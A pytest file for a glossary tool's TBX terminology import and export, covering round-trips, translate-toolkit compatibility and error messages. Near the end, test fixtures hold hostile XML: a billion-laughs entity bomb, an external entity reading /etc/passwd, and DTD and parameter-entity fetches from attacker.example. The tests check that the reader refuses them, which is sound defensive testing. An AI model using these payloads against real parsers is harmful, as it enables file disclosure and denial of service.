"""TBX: our export round-trips, loads in translate-toolkit, and translate-toolkit's files import;
hostile XML is refused."""

from __future__ import annotations

import pytest
from translate.storage import tbx

from glossary.terms.formats import ConceptRecord, GlossaryFormatError, read_tbx, write_tbx

RECORDS = [
    ConceptRecord(
        "specialized, refined, distinctive and innovative",
        source="专精特新",
        definition="MIIT's four criteria for high-quality SMEs.\nSecond line: <b>not markup</b>.",
        note="Abbreviation SRDI",
        domain="SME policy",
        part_of_speech="adjective",
        label="TERM",
        admitted=["SRDI"],
        forbidden=["specialized, special and new", "Specialized, Specialized, Special and New"],
    ),
    ConceptRecord(
        "mu", source="亩", domain="units", label="QUANTITY", forbidden=["acres"], status="draft"
    ),
    ConceptRecord("US", case_sensitive=True, status="deprecated", note='<not markup> & "quoted"'),
]


def test_round_trip_through_our_reader():
    assert read_tbx(write_tbx(RECORDS)) == RECORDS
    assert read_tbx(write_tbx(RECORDS).decode("utf-8")) == RECORDS


def test_export_uses_the_tbx_basic_layout():
    data = write_tbx(RECORDS[:1]).decode("utf-8")
    assert '<martif type="TBX-Basic" xml:lang="zh">' in data
    for fragment in (
        '<descrip type="subjectField">SME policy</descrip>',
        '<langSet xml:lang="zh">',
        '<langSet xml:lang="en">',
        '<descrip type="definition">',
        '<termNote type="partOfSpeech">adjective</termNote>',
        '<termNote type="administrativeStatus">preferredTerm-admn-sts</termNote>',
        '<termNote type="administrativeStatus">admittedTerm-admn-sts</termNote>',
        '<termNote type="administrativeStatus">deprecatedTerm-admn-sts</termNote>',
        "<note>Abbreviation SRDI</note>",
    ):
        assert fragment in data


def test_our_export_loads_in_translate_toolkit():
    store = tbx.tbxfile.parsestring(write_tbx(RECORDS))
    units = store.units
    assert [(u.source, u.target) for u in units] == [
        ("专精特新", "specialized, refined, distinctive and innovative"),
        ("亩", "mu"),
        ("US", None),  # no Chinese term: the English langSet is the only one
    ]
    terms = units[0].get_target_terms()
    assert [(t.text, t.administrative_status) for t in terms] == [
        ("specialized, refined, distinctive and innovative", "preferredTerm-admn-sts"),
        ("SRDI", "admittedTerm-admn-sts"),
        ("specialized, special and new", "deprecatedTerm-admn-sts"),
        ("Specialized, Specialized, Special and New", "deprecatedTerm-admn-sts"),
    ]
    assert [t.deprecated for t in terms] == [False, False, True, True]
    assert units[0].getnotes() == "Abbreviation SRDI"
    assert units[0].getid() == "c1" and not units[0].isobsolete()


def test_translate_toolkit_file_imports():
    store = tbx.tbxfile(sourcelanguage="zh", targetlanguage="en")
    unit = store.addsourceunit("专精特新")
    unit.target = "specialized, refined, distinctive and innovative"
    unit = store.addsourceunit("亩")
    unit.set_target_terms(["mu", "acres"])
    unit.addnote("1/15 hectare")
    data = bytes(store)
    assert b"<!DOCTYPE martif" in data  # translate-toolkit names its DTD; that must not be refused
    assert read_tbx(data) == [
        ConceptRecord("specialized, refined, distinctive and innovative", source="专精特新"),
        ConceptRecord("mu", source="亩", note="1/15 hectare", admitted=["acres"]),
    ]


def test_translate_toolkit_file_with_default_languages_imports():
    # tbxfile() defaults to "en" source and "xx" target: the Chinese ends up labelled "en".
    store = tbx.tbxfile()
    store.addsourceunit("两化融合").target = "integration of informatization and industrialization"
    assert read_tbx(bytes(store)) == [
        ConceptRecord("integration of informatization and industrialization", source="两化融合")
    ]


def test_translate_toolkit_round_trip_keeps_statuses():
    store = tbx.tbxfile.parsestring(write_tbx(RECORDS[:2]))
    assert read_tbx(bytes(store)) == RECORDS[:2]


def test_tbx_v3_namespaced_entries_are_read():
    data = """<?xml version="1.0" encoding="UTF-8"?>
<tbx xmlns="urn:iso:std:iso:30042:ed-2" type="TBX-Basic" style="dca" xml:lang="en">
  <text><body>
    <conceptEntry id="x1">
      <langSec xml:lang="zh-CN"><termSec><term>新基建</term></termSec></langSec>
      <langSec xml:lang="en-US">
        <termSec><term>new infrastructure</term>
          <termNote type="administrativeStatus">preferredTerm-admn-sts</termNote></termSec>
        <termSec><term>new-type infrastructure</term></termSec>
      </langSec>
    </conceptEntry>
  </body></text>
</tbx>""".encode()
    assert read_tbx(data) == [
        ConceptRecord("new infrastructure", source="新基建", admitted=["new-type infrastructure"])
    ]


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE martif [
  <!ENTITY lol "lol">
  <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<martif type="TBX"><text><body><termEntry><langSet xml:lang="en"><tig><term>&lol9;</term></tig></langSet>
</termEntry></body></text></martif>"""

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE martif [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<martif type="TBX"><text><body><termEntry><langSet xml:lang="en"><tig><term>&secret;</term></tig></langSet>
</termEntry></body></text></martif>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE martif SYSTEM "http://attacker.example/tbx.dtd">
<martif type="TBX"><text><body/></text></martif>"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE martif [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote;]>
<martif type="TBX"><text><body/></text></martif>"""


@pytest.mark.parametrize(
    "data, message",
    [
        (BILLION_LAUGHS, r"declares the XML entity 'lol'.*entity-expansion"),
        (EXTERNAL_ENTITY, r"external entity 'secret' \(file:///etc/passwd\)"),
        (EXTERNAL_DTD, r"external DTD \(http://attacker.example/tbx.dtd\)"),
        (PARAMETER_ENTITY, r"external entity 'remote'"),
    ],
)
def test_hostile_xml_is_refused(data, message):
    with pytest.raises(GlossaryFormatError, match=message):
        read_tbx(data)


@pytest.mark.parametrize(
    "data, message",
    [
        (
            b"<martif><text><body><termEntry></body></text></martif>",
            r"not well-formed XML: mismatched tag at line 1",
        ),
        (b"", r"not well-formed XML"),
        (b"\xff\xfe garbage", r"not well-formed XML"),
        (b"<tmx><body/></tmx>", r"root element is <tmx>"),
        (
            b"<martif><text><body><termEntry id='e7'/></body></text></martif>",
            r"termEntry 1 \(id 'e7'\): no langSet",
        ),
        (
            b"<martif><text><body><termEntry><langSet xml:lang='zh'><tig><term>\xe4\xba\xa9</term></tig></langSet>"
            b"</termEntry></body></text></martif>",
            r"termEntry 1: no preferred or admitted 'en' term",
        ),
        (
            b"<martif><text><body><termEntry><langSet xml:lang='en'><tig><term>mu</term>"
            b"<termNote type='administrativeStatus'>bogus</termNote></tig></langSet></termEntry></body></text></martif>",
            r"termEntry 1: unknown administrativeStatus 'bogus' for term 'mu'",
        ),
        (
            b"<martif><text><body><termEntry><admin type='x-redline-status'>live</admin><langSet xml:lang='en'>"
            b"<tig><term>mu</term></tig></langSet></termEntry></body></text></martif>",
            r"termEntry 1: unknown x-redline-status 'live'",
        ),
    ],
)
def test_broken_files_get_clear_messages(data, message):
    with pytest.raises(GlossaryFormatError, match=message):
        read_tbx(data)


def test_only_deprecated_terms_is_an_error_and_unmarked_terms_are_admitted():
    only_bad = (
        b"<martif><text><body><termEntry><langSet xml:lang='en'><tig><term>acres</term>"
        b"<termNote type='administrativeStatus'>deprecatedTerm-admn-sts</termNote></tig></langSet>"
        b"</termEntry></body></text></martif>"
    )
    with pytest.raises(GlossaryFormatError, match="no preferred or admitted"):
        read_tbx(only_bad)
    plain = (
        b"<martif><text><body><termEntry><langSet xml:lang='en'><tig><term>mu</term></tig>"
        b"<tig><term>mou</term></tig></langSet></termEntry></body></text></martif>"
    )
    assert read_tbx(plain) == [ConceptRecord("mu", admitted=["mou"])]
